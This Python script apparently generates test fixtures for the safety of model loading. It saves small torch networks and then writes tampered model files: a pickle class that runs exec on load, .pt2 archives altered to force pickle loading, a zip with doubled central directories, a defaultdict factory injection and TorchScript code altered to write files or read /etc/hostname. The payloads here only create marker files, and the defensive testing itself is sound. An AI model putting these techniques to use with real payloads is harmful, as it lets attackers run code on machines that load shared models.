"""Run with a Python that has torch: writes networks and attacks as torch's files into the folder of the first argument.

An attack that works writes a file into the folder ``marks``.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from pathlib import Path
from typing import Any

import torch  # type: ignore[import-not-found,unused-ignore]

FOLDER = Path(sys.argv[1])
MARKS = FOLDER / "marks"
Parts = dict[str, bytes]


class Convolutions(torch.nn.Module):  # type: ignore[misc,unused-ignore]
    def __init__(self) -> None:
        super().__init__()
        self.conv, self.norm, self.linear = torch.nn.Conv2d(3, 8, 3, padding=1), torch.nn.BatchNorm2d(8), torch.nn.Linear(8, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(torch.relu(self.norm(self.conv(x))).mean((2, 3)))


class Attention(torch.nn.Module):  # type: ignore[misc,unused-ignore]
    def __init__(self) -> None:
        super().__init__()
        self.norm, self.project, self.scale = torch.nn.LayerNorm(16), torch.nn.Linear(16, 48), torch.tensor([0.5])

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        q, k, v = self.project(self.norm(x)).chunk(3, -1)
        return torch.softmax(q @ k.transpose(-1, -2) / 4.0, -1) @ v * self.scale


class Pooling(torch.nn.Module):  # type: ignore[misc,unused-ignore]
    def __init__(self) -> None:
        super().__init__()
        self.conv = torch.nn.Conv2d(4, 4, 3, groups=4, stride=2, padding=1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.nn.functional.silu(self.conv(x))
        return torch.nn.functional.adaptive_avg_pool2d(torch.cat([y[:, :2], -y[:, 2:]], 1), 1).reshape(y.shape[0], -1)


class Evil:
    def __reduce__(self) -> Any:
        return exec, (f"open({str(MARKS / 'pickle')!r}, 'w')",)


def write_networks() -> None:
    torch.manual_seed(0)
    for name, network, shape in (
        ("conv", Convolutions(), (1, 3, 8, 8)),
        ("attention", Attention(), (1, 6, 16)),
        ("pool", Pooling(), (2, 4, 8, 8)),
    ):
        network.eval()
        example = torch.rand(shape)
        (FOLDER / f"{name}.json").write_text(json.dumps(shape))
        with torch.no_grad():
            torch.save({"x": example, "y": network(example)}, FOLDER / f"{name}.example")
            (FOLDER / f"{name}.bin").write_bytes(example.numpy().tobytes() + network(example).numpy().tobytes())
        torch.export.save(torch.export.export(network, (example,)), FOLDER / f"{name}.pt2")
        torch.jit.trace(network, (example,)).save(FOLDER / f"{name}_trace.pt")
        torch.jit.script(network).save(FOLDER / f"{name}_script.pt")


def parts_of(path: Path) -> Parts:
    with zipfile.ZipFile(path) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def archived(parts: Parts) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            archive.writestr(f"net/{name}", content)
    return file.getvalue()


def write_program_attacks() -> None:
    weights = "data/weights/model_weights_config.json"
    sound = parts_of(FOLDER / "conv.pt2")

    legacy = dict(sound)
    table = json.loads(sound[weights])
    table["config"]["conv.bias"]["use_pickle"] = True
    legacy[weights] = json.dumps(table).encode()
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, Evil())
    legacy["data/weights/weight_1"] = b"".join(pickle.dumps(value, 2) for value in head)
    (FOLDER / "legacy.pt2").write_bytes(archived(legacy))

    opaque = dict(sound)
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    opaque["data/constants/model_constants_config.json"] = json.dumps({"config": {"o": entry}}).encode()
    opaque["data/constants/opaque_obj_0"] = b"\x80\x02ccollections\nOrderedDict\nctorch\nSize\n)RR0" + pickle.dumps(Evil(), 2)[2:]
    (FOLDER / "opaque.pt2").write_bytes(archived(opaque))

    evil, good = archived(legacy), archived(sound)
    start, evil_start, size = (
        *struct.unpack("<L", good[-6:-2]),
        *struct.unpack("<L", evil[-6:-2]),
        *struct.unpack("<L", good[-10:-6]),
    )
    directory, place = bytearray(good[start:-22]), 0
    while place < len(directory):  # what Python adds to the offsets is taken off
        lengths = struct.unpack("<3H", directory[place + 28 : place + 34])
        (offset,) = struct.unpack("<L", directory[place + 42 : place + 46])
        directory[place + 42 : place + 46] = struct.pack("<L", offset + evil_start - start)
        place += 46 + sum(lengths)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(sound), len(sound), size, evil_start, 0)
    (FOLDER / "directories.pt2").write_bytes(evil[:-22] + good[:start] + bytes(directory) + end)

    nested = dict(sound)
    document = json.loads(sound["models/model.json"])
    factory = r'{"default\u005ffactory_module": "this", "default_factory_name": "s", "dict_context": "[]"}'
    document["graph_module"]["module_call_graph"][0]["signature"]["in_spec"] = (
        '[1, {"type": "builtins.tuple", "context": "null", "children_spec": '
        f'[{{"type": "collections.defaultdict", "context": {factory}, "children_spec": []}}]}}]'
    )
    nested["models/model.json"] = json.dumps(document).encode()
    (FOLDER / "nested.pt2").write_bytes(archived(nested))


def write_script_attacks() -> None:
    sound = {name: content for name, content in parts_of(FOLDER / "pool_script.pt").items() if "debug_pkl" not in name}
    code = next(
        name
        for name, content in sound.items()
        if name.endswith(".py") and b"adaptive_avg_pool2d" in content and b"conv" in content
    )
    text = sound[code].decode()
    start = "x: Tensor) -> Tensor:\n"
    place = text.index(start) + len(start)
    for name, line in {
        "space": f'torch . save(x, "{MARKS}/space")',
        "ops": f'ops.aten.save(x, "{MARKS}/ops")',
        "both": f'torch . save(x, "{MARKS}/both"); ops.aten.save(x, "{MARKS}/both")',
        "reads": 'x = torch.add(x, torch.sum(ops.aten.from_file("/etc/hostname", False, 4, dtype=0)))',
    }.items():
        (FOLDER / f"{name}.pt").write_bytes(
            archived({**sound, code: f"{text[:place]}    {line.replace('; ', chr(10) + '    ')}\n{text[place:]}".encode()})
        )


MARKS.mkdir()
write_networks()
write_program_attacks()
write_script_attacks()
